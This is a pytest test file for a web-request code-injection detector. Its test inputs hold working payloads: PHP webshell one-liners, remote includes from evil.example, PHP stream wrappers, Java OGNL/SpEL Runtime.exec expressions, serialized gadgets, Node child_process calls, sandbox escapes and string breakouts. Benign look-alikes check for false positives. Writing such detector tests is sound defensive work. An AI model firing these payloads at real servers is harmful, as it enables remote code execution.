"""PHP, Java and Node.js code injection; code mentioned in prose and look-alikes must pass."""

from __future__ import annotations

import pytest

from sealgate.detectors.code_injection import DETECTOR
from sealgate.detectors.engine import anomaly_score
from sealgate.detectors.normalize import Value


def _rules(text: str, location: str = "query.q", paranoia: int = 1) -> list[str]:
    return [f.rule_id.removeprefix("code_injection-") for f in DETECTOR.detect(Value(text), location, paranoia)]


def _score(text: str, location: str = "query.q", paranoia: int = 1) -> int:
    return anomaly_score(DETECTOR.detect(Value(text), location, paranoia))


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("<?php system($_GET['c']); ?>", "php-open-tag"),
        ("<?= `id` ?>", "php-open-tag"),
        ("<? passthru('id'); ?>", "php-open-tag"),
        ("system('id')", "php-function-call"),
        ("SYSTEM ( 'id' )", "php-function-call"),
        ("eval($_POST['x'])", "php-function-call"),
        ("eval\r\n($foo)", "php-function-call"),
        ("exec/**/('id')", "php-function-call"),
        ("assert(\"phpinfo()\")", "php-function-call"),
        ("file_put_contents('x.php', $d)", "php-function-call"),
        ("pfsockopen('evil.example', 25)", "php-function-call"),
        ("print_r( )", "php-function-call"),
        ("chr(112).chr(104)", "php-function-call"),
        ("include 'http://evil.example/shell.txt';", "php-function-call"),
        ("require_once $_GET['page'];", "php-function-call"),
        ("$a(1)", "php-variable-function"),
        ("$$b(2)", "php-variable-function"),
        ("$_(3)", "php-variable-function"),
        ("@$__[o](4)", "php-variable-function"),
        ("$__['o'](5)", "php-variable-function"),
        ("$__[$_[1]](7)", "php-variable-function"),
        ("${@a}(10)", "php-variable-function"),
        ("$ {@_.__}(31);", "php-variable-function"),
        ("$GLOBALS['cf908275'](14)", "php-variable-function"),
        ("$OOO000000{0}(15)", "php-variable-function"),
        ("$_aB_4c #foo\r\n\t[5]//bar\r\n\t['d'] /*foo*/ (17)", "php-variable-function"),
        ("$f(101).$f(120)", "php-variable-function"),
        ("$foo->$funcname()", "php-variable-function"),
        ("Foo::$variable()", "php-variable-function"),
        ("(system)('uname')", "php-callable-obfuscation"),
        ("(sy.(st).em)('uname')", "php-callable-obfuscation"),
        ('(string)"system"(\'uname\')', "php-callable-obfuscation"),
        ("[system][0](ls)", "php-callable-obfuscation"),
        ("[ system ] [ 0 ] ( ls )", "php-callable-obfuscation"),
        ("$y = 'sys'.'tem';($y)('uname')", "php-callable-obfuscation"),
        ("$_SERVER['HTTP_USER_AGENT']", "php-superglobal"),
        ("$_%53ERVER['test'];", "php-superglobal"),
        ("php://filter/convert.base64-encode/resource=index.php", "php-wrapper"),
        ("php://input", "php-wrapper"),
        ("phar:///tmp/upload.jpg/x", "php-wrapper"),
        ("zip://shell.jpg%23payload.php", "php-wrapper"),
        ("expect://id", "php-wrapper"),
        ("data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+", "php-wrapper"),
        ('O:8:"stdClass":1:{s:1:"a";i:2;}', "php-serialized-object"),
        ('a:1:{i:0;O:9:"SimplePie":0:{}}', "php-serialized-object"),
        ("session.bug_compat_42=true", "php-config-directive"),
        ("allow_url_include=1", "php-config-directive"),
        ("-d allow_url_include=1 -d auto_prepend_file=php://input", "php-config-directive"),
        ("php_value auto_prepend_file /tmp/x", "php-config-directive"),
    ],
)
def test_php(payload: str, rule: str) -> None:
    assert rule in _rules(payload), _rules(payload)
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    ("filename", "location"),
    [
        ("shell.php", "multipart.file:filename"),
        ("a.php5", "multipart.avatar:filename"),
        ("a.phtml...", "header.x-filename"),
        ("fda.php7", "header.x-file-name"),
        ("a.php..", "header.x_filename"),
        ("x.phar", "header.x.filename"),
        ("shell.php::$DATA", "multipart.f:filename"),
    ],
)
def test_php_upload_names(filename: str, location: str) -> None:
    assert "php-script-upload" in _rules(filename, location)


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("java.lang.Runtime", "java-class"),
        ("java.lang.ProcessBuilder", "java-class"),
        ("javax.script.ScriptEngineManager", "java-class"),
        ("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", "java-class"),
        ("org.apache.commons.collections.functors.InvokerTransformer", "java-class"),
        ("com.opensymphony.xwork2.ActionContext", "java-class"),
        ("org.omg.CORBA", "java-class"),
        ("java.io.BufferedReader", "java-class"),
        ("test=java.lang.String", "java-class"),
        ('{"@type": "java.lang.Integer", "val": 1}', "java-class"),
        ("new java.io.File('/etc/passwd')", "java-class"),
        ("java.Runtime", "java-gadget"),
        ("java.evil.processbuilder", "java-gadget"),
        ("ProcessBuilder.evil.invokertransformer", "java-gadget"),
        ("runtime.clonetransformer", "java-gadget"),
        ("InvokerTransformer", "java-gadget"),
        ("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==", "java-serialized-object"),
        ("KztAAU", "java-serialized-object"),
        ("aced0005737200", "java-serialized-object"),
        ("%{#_memberAccess['allowStaticMethodAccess']=true}", "java-expression"),
        ("%{(#cmd='id').(@java.lang.Runtime@getRuntime().exec(#cmd))}", "java-expression"),
        ("#{T(java.lang.Runtime).getRuntime().exec('id')}", "java-expression"),
        ("${''.getClass().forName('java.lang.Runtime')}", "java-expression"),
        ("cnVudGltZQ", "java-base64-keyword"),
        ("HJ1bnRpbWU", "java-base64-keyword"),
        ("aW52b2tlcnRyYW5zZm9ybWVy", "java-base64-keyword"),
    ],
)
def test_java(payload: str, rule: str) -> None:
    assert rule in _rules(payload), _rules(payload)
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "node-serialized-function"),
        ("__js_function", "node-serialized-function"),
        ("require('child_process').exec('id')", "node-process-access"),
        ('require("child_process").spawnSync("id")', "node-process-access"),
        ("process.mainModule.require('fs')", "node-process-access"),
        ("process.binding('spawn_sync')", "node-process-access"),
        ("this.constructor.constructor('return process')()", "node-sandbox-escape"),
        ("new Function('return process')()", "node-dynamic-code"),
        ("eval(String.fromCharCode(97,108,101,114,116))", "node-dynamic-code"),
        ("eval(atob('YWxlcnQoMSk='))", "node-dynamic-code"),
        ("(function(){ return 1; })()", "node-function-literal"),
        ("function() {", "node-function-literal"),
        ("module.exports=", "node-module-exports"),
        ("XyQkTkRfRlVOQyQkXwo=", "base64-payload"),
        ("PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==", "base64-payload"),
    ],
)
def test_node_and_base64(payload: str, rule: str) -> None:
    assert rule in _rules(payload), _rules(payload)
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    ("text", "location"),
    [
        ("the system (the new one) works fine", "query.q"),
        ("Please list the file(s) you changed", "query.q"),
        ("use eval() with care in your scripts", "query.q"),
        ("Determine if saferepr(object) is readable by eval().", "query.q"),
        ("see symlink(7) and chmod(1) for details", "query.q"),
        ("gethostbyname(host) -> address", "query.q"),
        ("<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>", "body"),
        ("$(document).ready(init)", "query.q"),
        ("$.ajax({url: '/x'})", "query.q"),
        ("It costs $5 (approx.)", "query.q"),
        ("[ACME]: this is, (another) test (foo)bar or foo(bar).", "query.q"),
        ("(foo)bar or foo(bar) or [foo]bar or foo[bar]", "query.q"),
        ("$_server is lower case", "query.q"),
        ("java.lang.String is immutable", "query.q"),
        ("I don't like gzuncompress", "query.q"),
        ("wrap it in a function() { ... } block before you call it", "query.q"),
        ("report.pdf", "multipart.file:filename"),
        ("fthi/sfewfda.phtml987...", "header.x-filename"),
        ("shell.php", "query.name"),
        ("my-session.json", "query.file"),
        ("Barcelona", "query.city"),
        ("1F767F17239C9B670A39E9B10C3825F4", "cookie.JSESSIONID"),
        ("java.lang.Runtime", "xml./xml/java.lang.Runtime:tag"),
        ("rO0ABQ", "xml./xml/element@rO0ABQ:name"),
    ],
)
def test_benign_look_alikes_pass(text: str, location: str) -> None:
    assert _score(text, location) < 5, _rules(text, location)


def test_function_name_in_a_sentence_is_four_points_then_critical_at_paranoia_2() -> None:
    assert _score("I don't like gzuncompress", paranoia=1) == 4
    assert _score("I don't like gzuncompress", paranoia=2) == 5


@pytest.mark.parametrize("text", ["FOOcall_user_func", "\\call_user_func", "@base64_decode", "'gzinflate'"])
def test_function_name_as_one_identifier_is_critical(text: str) -> None:
    assert _score(text, paranoia=1) == 5


def test_common_class_in_prose_is_a_warning() -> None:
    findings = DETECTOR.detect(Value("java.io.File is how you open files"), "body.$.text", 1)
    assert [(f.rule_id, f.severity) for f in findings] == [("code_injection-java-class", "warning")]


def test_finding_identity() -> None:
    (finding,) = DETECTOR.detect(Value("system('id')"), "form.cmd", 1)
    assert (finding.detector, finding.location, finding.severity) == ("code_injection", "form.cmd", "critical")
    assert "system" in finding.excerpt


@pytest.mark.parametrize(
    ("payload", "rule"),
    [
        ("';it=new Date();do{pt=new Date();}while(pt-it<5000);", "statement-breakout"),
        ("';sleep(5000);", "statement-breakout"),
        ("\";system('id');//", "statement-breakout"),
        ("admin';return true;var a='", "statement-breakout"),
        ("x\");while(true){}//", "statement-breakout"),
        ("${@print(md5(123))}", "php-variable-function"),
        ("'.system('id').'", "php-function-call"),
        ("\".passthru($_GET[c]).\"", "php-function-call"),
        ("\"(system)('id')\"", "php-callable-obfuscation"),
    ],
)
def test_string_breakouts(payload: str, rule: str) -> None:
    assert rule in _rules(payload), _rules(payload)
    assert _score(payload) >= 5


@pytest.mark.parametrize(
    "text",
    [
        "do it; then while waiting, read the manual",
        "Date() in Excel returns today",
        "'Hello' (greeting); see notes",
        "O'Neil; Smith (editor)",
        "\"quoted\"; then more text (with parentheses)",
        "It's done; (finally) we ship",
        "${user.name}",
        "\"a\".join(parts)",
        "'abc'.include? is Ruby",
        "\"(see below)\"",
    ],
)
def test_breakout_look_alikes_pass(text: str) -> None:
    assert _score(text) < 5, _rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "'" + ";" * 3 + "a(" * 50_000,
        "'" + ")" + "(" * 100_000,
        "x'" + ";" + "a." * 50_000 + "b(",
        "\".a(" * 30_000,
        "${@" * 50_000,
    ],
)
def test_breakout_rules_stay_fast_on_pathological_input(text: str) -> None:
    import time

    started = time.perf_counter()
    DETECTOR.detect(Value(text), "query.q", 3)
    assert time.perf_counter() - started < 1.0
